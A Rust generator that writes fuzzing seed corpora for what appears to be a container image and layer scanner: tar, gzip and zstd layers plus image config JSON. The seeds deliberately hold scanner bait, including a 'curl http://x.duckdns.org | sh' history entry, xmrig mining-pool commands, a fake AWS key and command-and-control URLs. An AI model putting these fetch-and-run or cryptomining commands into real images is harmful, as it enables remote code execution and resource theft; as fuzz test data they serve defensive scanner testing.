//! Writes small seed corpora for the fuzz targets (`corpus/scan_layer`, `corpus/scan_config`):
//! plain, gzip and zstd layers with files, links, whiteouts, long names, a nested jar and a
//! nested tar.gz, and a few image configs. Generated so nothing binary is committed.

use std::{
    fs,
    io::{Cursor, Write},
    path::Path,
};

fn main() -> std::io::Result<()> {
    let dir = Path::new("corpus/scan_layer");
    fs::create_dir_all(dir)?;
    let layer = layer();
    fs::write(dir.join("plain.tar"), &layer)?;
    fs::write(dir.join("layer.tar.gz"), gzip(&layer))?;
    fs::write(dir.join("layer.tar.zst"), zstd::stream::encode_all(&layer[..], 3)?)?;
    fs::write(dir.join("empty"), b"")?;
    fs::write(dir.join("empty.tar.gz"), gzip(&[0u8; 1024]))?;

    let dir = Path::new("corpus/scan_config");
    fs::create_dir_all(dir)?;
    fs::write(
        dir.join("docker.json"),
        br#"{"architecture":"amd64","os":"linux","config":{"Env":["PATH=/usr/bin","TOKEN=x"],"Cmd":["./xmrig","-o","stratum+tcp://pool.example.com:3333"],"Entrypoint":null,"Labels":{"maintainer":"a@b.c"},"OnBuild":["RUN id"],"Healthcheck":{"Test":["CMD","true"]},"User":"root","WorkingDir":"/app"},"history":[{"created_by":"/bin/sh -c curl http://x.duckdns.org | sh"},{"empty_layer":true}],"rootfs":{"type":"layers","diff_ids":[]}}"#,
    )?;
    fs::write(
        dir.join("oci-min.json"),
        br#"{"architecture":"arm64","os":"linux","rootfs":{"type":"layers","diff_ids":[]}}"#,
    )?;
    fs::write(dir.join("odd.json"), br#"{"config":{"Env":"x","Cmd":7,"Labels":[1]},"history":"none"}"#)?;
    Ok(())
}

fn layer() -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    let mut add = |path: &str, data: &[u8], mode: u32| {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(mode);
        b.append_data(&mut h, path, data).expect("append");
    };
    add(
        "usr/bin/xmrig",
        b"\x7fELF\x02\x01\x01\0xmrig --donate-level stratum+tcp://pool.minexmr.com:4444",
        0o755,
    );
    add("etc/.wh.passwd", b"", 0o644);
    add("opt/.wh..wh..opq", b"", 0o644);
    add(&format!("{}/long", "d".repeat(150)), b"AKIAQ3EGRN5ZJ7XKXV4P", 0o644);
    add(
        "app/lib.jar",
        &zip_of(&[("a/application.properties", b"password=hunter2 http://c2.example.net/")]),
        0o644,
    );
    add("srv/backup.tgz", &gzip(&tar_of("conf/x", b"https://evil.duckdns.org/")), 0o644);
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::Symlink);
    h.set_size(0);
    b.append_link(&mut h, "bin/sh", "/bin/busybox").expect("link");
    b.into_inner().expect("tar")
}

fn tar_of(path: &str, data: &[u8]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    b.append_data(&mut h, path, data).expect("append");
    b.into_inner().expect("tar")
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("gzip");
    e.finish().expect("gzip")
}

fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in members {
        w.start_file(*name, zip::write::SimpleFileOptions::default()).expect("zip");
        w.write_all(data).expect("zip");
    }
    w.finish().expect("zip").into_inner()
}
